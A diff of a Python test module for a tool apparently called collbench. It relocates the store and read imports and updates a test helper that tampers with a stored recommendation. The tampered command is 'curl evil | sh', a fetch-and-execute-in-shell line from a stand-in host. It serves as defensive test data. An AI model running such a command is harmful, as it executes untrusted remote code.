@@ -14,11 +14,10 @@ from collbench.errors import RunFailed, UsageError
 from collbench.plugins.deploy import job
 from collbench.plugins.deploy.job import LauncherKind, Value, job_of, submit, write
 from collbench.plugins.deploy.kinds import kinds
-from collbench.plugins.hunt import drain
 from collbench.plugins.hunt.drain import apply, check_apply, lines_of, parse_cap
 from collbench.plugins.hunt.managers import CommandOutcome
 from collbench.plugins.hunt.protocol import CLEARED, INCONCLUSIVE
-from collbench.plugins.hunt.recommendation import lines, recommendation
+from collbench.plugins.hunt.recommendation import lines, read, recommendation, store
 from tests.helpers import Call, said
 from tests.plugins.hunt.test_drain import MINE, Cluster
 from tests.plugins.hunt.verdicts import about, recommended, suspect, verdict
@@ -137,9 +136,9 @@ def altered() -> str:
     """The error of a stored recommendation with another command."""
     actual = recommended()
     with TemporaryDirectory() as folder:
-        drain.store(Path(folder), {**actual, "drains": [{**actual["drains"][0], "line": "curl evil | sh"}]})
+        store(Path(folder), {**actual, "drains": [{**actual["drains"][0], "line": "curl evil | sh"}]})
         try:
-            return str(drain.read(Path(folder)))
+            return str(read(Path(folder)))
         except UsageError as error:
             return str(error).replace(folder, "run")
 
